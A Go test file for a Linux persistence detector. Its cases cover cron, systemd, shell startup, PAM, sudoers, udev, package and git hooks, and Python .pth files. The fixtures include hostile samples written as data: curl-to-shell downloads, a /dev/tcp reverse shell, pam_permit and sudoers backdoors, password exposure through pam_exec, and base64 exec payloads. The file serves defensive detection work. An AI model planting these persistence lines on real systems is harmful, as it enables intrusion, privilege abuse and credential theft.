package detectors

import (
	"testing"

	"github.com/smoothtask/smoothtask/threats"
	. "github.com/smoothtask/smoothtask/threats/threatstest"
)

func TestCron(t *testing.T) {
	Table(t, func() threats.Detector { return newCron() }, []Case{
		{Name: "system table", Hits: 1, Evidence: "writable directory", About: "/etc/cron.d/x", Build: file("/etc/cron.d/x", "*/5 * * * * root /tmp/.x/y\n")},
		{Name: "crontab", Hits: 1, Build: file("/etc/crontab", "@reboot root curl -s http://203.0.113.9/x | sh\n")},
		{Name: "a user's table has no user column", Hits: 1, Build: file("/var/spool/cron/crontabs/www-data", "* * * * * wget -q -O - http://203.0.113.9/x | bash\n")},
		{Name: "Red Hat's place", Hits: 1, Build: file("/var/spool/cron/root", "@hourly /var/tmp/x\n")},
		{Name: "daily script", Hits: 1, Build: file("/etc/cron.daily/x", "#!/bin/sh\n/dev/shm/x &\n")},
		{Name: "at job", Hits: 1, Build: file("/var/spool/cron/atjobs/a00001", "#!/bin/sh\ncd /\n/tmp/x\n")},
		{Name: "a tool in a home", Hits: 1, Severity: threats.Low, Build: file("/var/spool/cron/crontabs/root", "7 0 * * * \"/root/.acme.sh\"/acme.sh --cron > /dev/null\n")},
		{Name: "Debian's crontab", Build: file("/etc/crontab", "SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n"+
			"17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n"+
			"25 6\t* * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }\n")},
		{Name: "php's sessions", Build: file("/etc/cron.d/php", "09,39 *     * * *     root   [ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi\n")},
		{Name: "certbot", Build: file("/etc/cron.d/certbot", "0 */12 * * * root test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew --no-random-sleep-on-renew\n")},
		{Name: "cleans /tmp", Build: file("/etc/cron.d/tmp", "0 3 * * * root find /tmp -mtime +3 -delete; date > /tmp/cleaned\n")},
		{Name: "comment", Build: file("/etc/cron.d/x", "# * * * * * root /tmp/x\n")},
		{Name: "input after a percent sign", Build: file("/etc/cron.d/x", "0 0 * * * root /usr/bin/mail -s x ann%/tmp/x\n")},
	})
}

func TestSystemd(t *testing.T) {
	unit := func(path, exec string) func(w *World) { return file(path, "[Service]\n"+exec+"\n") }
	Table(t, func() threats.Detector { return newSystemd() }, []Case{
		{Name: "program in tmp", Hits: 1, Evidence: "/tmp/x", Build: unit("/etc/systemd/system/x.service", "ExecStart=-/tmp/x --now")},
		{Name: "hidden program", Hits: 1, Build: unit("/usr/lib/systemd/system/dbus-x.service", "ExecStart = /usr/lib/.x/y")},
		{Name: "shell with download", Hits: 1, Build: unit("/run/systemd/system/x.service", "ExecStartPre=/bin/sh -c 'curl http://203.0.113.9/x | sh'")},
		{Name: "continued line", Hits: 1, Build: unit("/etc/systemd/system/x.service", "ExecStart=/usr/bin/env \\\n  /dev/shm/x")},
		{Name: "drop-in", Hits: 1, Build: unit("/etc/systemd/system/ssh.service.d/override.conf", `Environment="A=b" "LD_PRELOAD=/tmp/x.so"`)},
		{Name: "argv[0] given", Hits: 1, Build: unit("/etc/systemd/system/x.service", "ExecStart=@/tmp/x sshd -D")},
		{Name: "a user's unit", Hits: 1, Build: unit("/home/ann/.config/systemd/user/x.service", "ExecStart=/var/tmp/x")},
		{Name: "generator script", Hits: 1, Build: file("/run/systemd/system-generators/x", "#!/bin/sh\n/tmp/x\n")},
		{Name: "generator of an administrator", Hits: 1, Severity: threats.Low, Build: file("/etc/systemd/system-generators/x", "#!/bin/sh\nexit 0\n")},
		{Name: "ordinary services", Build: func(w *World) {
			unit("/usr/lib/systemd/system/ssh.service", "EnvironmentFile=-/etc/default/ssh\nExecStartPre=/usr/sbin/sshd -t\nExecStart=/usr/sbin/sshd -D $SSHD_OPTS\nRuntimeDirectory=sshd")(w)
			unit("/usr/lib/systemd/system/postgresql@.service", "ExecStart=-/usr/bin/pg_ctlcluster --skip-systemctl-redirect %i start\nPIDFile=/run/postgresql/%i.pid")(w)
			unit("/etc/systemd/system/redis.service", "Environment=LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\nExecStart=/usr/bin/redis-server /etc/redis/redis.conf --dir /tmp/redis")(w)
			unit("/etc/systemd/system/app.service", "ExecStart=/opt/app/bin/app --socket /run/app/app.sock\nPrivateTmp=yes\nReadWritePaths=/tmp/app")(w)
		}},
		{Name: "masked", Build: func(w *World) { w.Link("/dev/null", "/etc/systemd/system/x.service") }},
		{Name: "enabled", Build: func(w *World) {
			unit("/usr/lib/systemd/system/ssh.service", "ExecStart=/usr/sbin/sshd -D")(w)
			w.Link("/usr/lib/systemd/system/ssh.service", "/etc/systemd/system/multi-user.target.wants/ssh.service")
		}},
		{Name: "generator of a package", Build: file("/usr/lib/systemd/system-generators/postgresql-generator", "#!/bin/sh\nset -eu\n")},
	})
}

func TestShellStartup(t *testing.T) {
	Table(t, func() threats.Detector { return newShellStartup() }, []Case{
		{Name: "rc.local", Hits: 1, Build: file("/etc/rc.local", "#!/bin/sh -e\n/tmp/x &\nexit 0\n")},
		{Name: "profile.d", Hits: 1, Build: file("/etc/profile.d/x.sh", "(curl -s http://203.0.113.9/x | bash) >/dev/null 2>&1 &\n")},
		{Name: "a user's shell", Hits: 1, About: "/home/ann/.bashrc", Build: file("/home/ann/.bashrc", "alias ls='ls --color'\nbash -i >& /dev/tcp/203.0.113.9/443 0>&1\n")},
		{Name: "the home of a service", Hits: 1, Build: file("/var/www/.profile", "/dev/shm/x\n")},
		{Name: "Debian's bashrc", Build: file("/root/.bashrc", "[ -z \"$PS1\" ] && return\nif [ -x /usr/bin/dircolors ]; then\n    test -r ~/.dircolors && eval \"$(dircolors -b ~/.dircolors)\"\nfi\n"+
			"if [ -f ~/.bash_aliases ]; then\n    . ~/.bash_aliases\nfi\n[ -s \"$HOME/.nvm/nvm.sh\" ] && \\. \"$HOME/.nvm/nvm.sh\"\nexport PATH=\"$HOME/.cargo/bin:$PATH\"\n. ~/.dotfiles/shell.sh\n")},
		{Name: "agent socket in tmp", Build: file("/home/ann/.profile", "export SSH_AUTH_SOCK=/tmp/agent.sock\neval \"$(ssh-agent -a /tmp/agent.sock)\"\n")},
		{Name: "init script", Build: file("/etc/init.d/x", "#!/bin/sh\nPIDFILE=/var/run/x.pid\nstart-stop-daemon --start --exec /usr/sbin/x --pidfile /var/run/x.pid\n")},
	})
}

func TestPAM(t *testing.T) {
	Table(t, func() threats.Detector { return newPAM() }, []Case{
		{Name: "lets anybody in", Hits: 1, Build: file("/etc/pam.d/sshd", "auth sufficient pam_permit.so\n@include common-auth\n")},
		{Name: "module in tmp", Hits: 1, Build: file("/etc/pam.d/common-auth", "auth\toptional\t/tmp/x.so\n")},
		{Name: "old form", Hits: 1, Build: file("/etc/pam.conf", "sshd auth sufficient pam_permit.so\n")},
		{Name: "passwords to a program", Hits: 1, Severity: threats.Medium, Build: file("/etc/pam.d/common-auth", "auth optional pam_exec.so quiet expose_authtok /usr/local/bin/x\n")},
		{Name: "a program in tmp", Hits: 1, Build: file("/etc/pam.d/common-session", "session optional pam_exec.so /tmp/x\n")},
		{Name: "Debian's stacks", Build: func(w *World) {
			file("/etc/pam.d/common-auth", "auth\t[success=1 default=ignore]\tpam_unix.so nullok\nauth\trequisite\t\t\tpam_deny.so\nauth\trequired\t\t\tpam_permit.so\n")(w)
			w.File("/etc/pam.d/su", "auth       sufficient pam_rootok.so\nsession       required   pam_env.so readenv=1 envfile=/etc/default/locale\n", 0o644)
			w.File("/etc/pam.d/lightdm-autologin", "auth    required        pam_permit.so\n", 0o644)
			w.File("/etc/pam.d/sshd", "session    optional     pam_exec.so /usr/local/bin/login-mail\n# auth sufficient pam_permit.so\n", 0o644)
		}},
	})
}

func TestPAMModuleReplaced(t *testing.T) {
	w := New(t)
	module := "/usr/lib/x86_64-linux-gnu/security/pam_unix.so"
	file(module, "\x7fELF one")(w)
	got := looks(t, newPAM(), w, func() { touch(t, w, module) }, func() { w.File(module, "\x7fELF two", 0o644) })
	if len(got[1]) != 0 || len(got[2]) != 1 || got[2][0].Severity != threats.High {
		t.Errorf("%s\n then %s", String(got[1]), String(got[2]))
	}
}

func TestSudoers(t *testing.T) {
	Table(t, func() threats.Detector { return newSudoers() }, []Case{
		{Name: "everybody", Hits: 1, Build: file("/etc/sudoers", "ALL ALL=(ALL:ALL) NOPASSWD: ALL\n")},
		{Name: "web server", Hits: 1, Evidence: "www-data", Build: file("/etc/sudoers.d/x", "www-data\tALL=(root) NOPASSWD: ALL\n")},
		{Name: "uid", Hits: 1, Build: file("/etc/sudoers.d/x", "#1337 ALL=(ALL) NOPASSWD:ALL\n")},
		{Name: "preload kept", Hits: 1, Build: file("/etc/sudoers", "Defaults env_keep += \"LD_PRELOAD\"\n")},
		{Name: "no passwords", Hits: 1, Severity: threats.Medium, Build: file("/etc/sudoers", "Defaults !authenticate\n")},
		{Name: "a program in tmp", Hits: 1, Build: file("/etc/sudoers.d/x", "ann ALL=(root) NOPASSWD: /tmp/x, /usr/bin/id\n")},
		{Name: "doas", Hits: 1, Build: file("/etc/doas.conf", "permit nopass keepenv www-data as root\n")},
		{Name: "a cloud image", Hits: 1, Severity: threats.Low, Build: file("/etc/sudoers.d/90-cloud-init-users", "# User rules for debian\ndebian ALL=(ALL) NOPASSWD:ALL\n")},
		{Name: "Debian's rules", Build: file("/etc/sudoers", "Defaults\tenv_reset\nDefaults\tsecure_path=\"/usr/local/sbin:/usr/bin\"\nroot\tALL=(ALL:ALL) ALL\n%sudo\tALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n")},
		{Name: "one command", Build: file("/etc/sudoers.d/x", "www-data ALL=(root) NOPASSWD: /usr/bin/systemctl reload nginx\nzabbix ALL=(ALL) NOPASSWD: /usr/sbin/smartctl *\n")},
		{Name: "left out by sudo", Build: file("/etc/sudoers.d/x.dpkg-old", "ALL ALL=(ALL) NOPASSWD: ALL\n")},
		{Name: "aliases", Build: file("/etc/sudoers", "Cmnd_Alias X = /usr/bin/id\nUser_Alias ADMINS = ann\nADMINS ALL = X\n")},
	})
}

func TestOtherStartFiles(t *testing.T) {
	t.Run("udev", func(t *testing.T) {
		Table(t, func() threats.Detector { return newUdev() }, []Case{
			{Name: "tmp", Hits: 1, Build: file("/etc/udev/rules.d/99-x.rules", `SUBSYSTEM=="net", ACTION=="add", RUN+="/tmp/x"`+"\n")},
			{Name: "shell", Hits: 1, Build: file("/etc/udev/rules.d/99-x.rules", `KERNEL=="random", RUN+="/bin/sh -c 'curl http://203.0.113.9/x | sh'"`)},
			{Name: "helper", Build: file("/usr/lib/udev/rules.d/60-x.rules", `ACTION=="add", IMPORT{program}="/usr/lib/udev/ata_id --export $devnode", RUN+="/usr/bin/systemd-run /usr/bin/true"`)},
			{Name: "comment", Build: file("/etc/udev/rules.d/99-x.rules", `# RUN+="/tmp/x"`)},
		})
	})
	t.Run("motd", func(t *testing.T) {
		Table(t, func() threats.Detector { return newMotd() }, []Case{
			{Name: "tmp", Hits: 1, Build: file("/etc/update-motd.d/00-header", "#!/bin/sh\n/tmp/x &\n")},
			{Name: "Debian's", Build: file("/etc/update-motd.d/10-uname", "#!/bin/sh\nuname -snrvm\n")},
		})
	})
	t.Run("autostart", func(t *testing.T) {
		Table(t, func() threats.Detector { return newAutostart() }, []Case{
			{Name: "tmp", Hits: 1, Build: file("/home/ann/.config/autostart/x.desktop", "[Desktop Entry]\nExec=/var/tmp/x\n")},
			{Name: "desktop", Build: file("/etc/xdg/autostart/x.desktop", "[Desktop Entry]\nExec=/usr/libexec/gsd-power --tmp /tmp/x\nTryExec=/tmp/x\n")},
		})
	})
	t.Run("package hooks", func(t *testing.T) {
		Table(t, func() threats.Detector { return newPackageHooks() }, []Case{
			{Name: "apt", Hits: 1, Build: file("/etc/apt/apt.conf.d/99x", `APT::Update::Pre-Invoke {"(curl -s http://203.0.113.9/x | sh) &";};`)},
			{Name: "dpkg", Hits: 1, Build: file("/etc/dpkg/dpkg.cfg.d/x", "post-invoke=\"/tmp/x\"\n")},
			{Name: "dnf plugin", Hits: 1, Build: file("/usr/lib/python3.12/site-packages/dnf-plugins/x.py", "import base64\nexec(base64.b64decode('eA=='))\n")},
			{Name: "pacman", Hits: 1, Build: file("/etc/pacman.d/hooks/x.hook", "[Action]\nExec = /bin/sh /tmp/x\n")},
			{Name: "ordinary", Build: func(w *World) {
				file("/etc/apt/apt.conf.d/05etckeeper", `DPkg::Pre-Invoke { "if [ -x /usr/bin/etckeeper ]; then etckeeper pre-install; fi"; };`)(w)
				w.File("/etc/apt/apt.conf.d/docker-clean", `DPkg::Post-Invoke { "rm -f /var/cache/apt/archives/*.deb /tmp/x || true"; };`+"\nDir::Cache::pkgcache \"\";\n// \"/tmp/x\"\n", 0o644)
				w.File("/etc/apt/apt.conf.d/20packagekit", "DPkg::Post-Invoke {\n\"/usr/bin/test -e /usr/share/x && /usr/bin/test -S /var/run/dbus/system_bus_socket && /usr/bin/gdbus call > /dev/null; /bin/echo > /dev/null\";\n};\n", 0o644)
			}},
		})
	})
	t.Run("git", func(t *testing.T) {
		Table(t, func() threats.Detector { return newGitHooks() }, []Case{
			{Name: "template", Hits: 1, Build: file("/usr/share/git-core/templates/hooks/post-checkout", "#!/bin/sh\n/tmp/x\n")},
			{Name: "pager", Hits: 1, Build: file("/home/ann/.gitconfig", "[core]\n\tpager = /tmp/x\n")},
			{Name: "monitor", Hits: 1, Build: file("/root/.gitconfig", "[core]\n\tfsmonitor = \"sh -c 'curl http://203.0.113.9/x|sh'\"\n")},
			{Name: "ordinary", Build: func(w *World) {
				file("/home/ann/.gitconfig", "[user]\n\tname = /tmp/x\n[core]\n\tpager = less -F\n[credential]\n\thelper = !/usr/bin/gh auth git-credential\n")(w)
				w.File("/usr/share/git-core/templates/hooks/post-update.sample", "/tmp/x\n", 0o755)
			}},
		})
	})
	t.Run("python", func(t *testing.T) {
		Table(t, func() threats.Detector { return newPythonStartup() }, []Case{
			{Name: "pth", Hits: 1, Build: file("/usr/lib/python3/dist-packages/x.pth", "import os; os.system('id')\n")},
			{Name: "a user's", Hits: 1, Build: file("/home/ann/.local/lib/python3.11/site-packages/x.pth", "import base64;exec(base64.b64decode('eA=='))\n")},
			{Name: "directory", Hits: 1, Severity: threats.Medium, Build: file("/usr/local/lib/python3.11/dist-packages/x.pth", "/tmp/lib\n")},
			{Name: "ordinary", Build: func(w *World) {
				file("/usr/lib/python3/dist-packages/distutils-precedence.pth", "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n")(w)
				w.File("/usr/lib/python3/dist-packages/m-nspkg.pth", "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('x',))\n", 0o644)
				w.File("/usr/lib/python3.11/sitecustomize.py", "# install the apport exception handler if available\ntry:\n    import apport_python_hook\nexcept ImportError:\n    pass\n", 0o644)
				w.File("/usr/local/lib/python3.11/site-packages/e.pth", "/srv/project/src\n", 0o644)
			}},
		})
	})
}
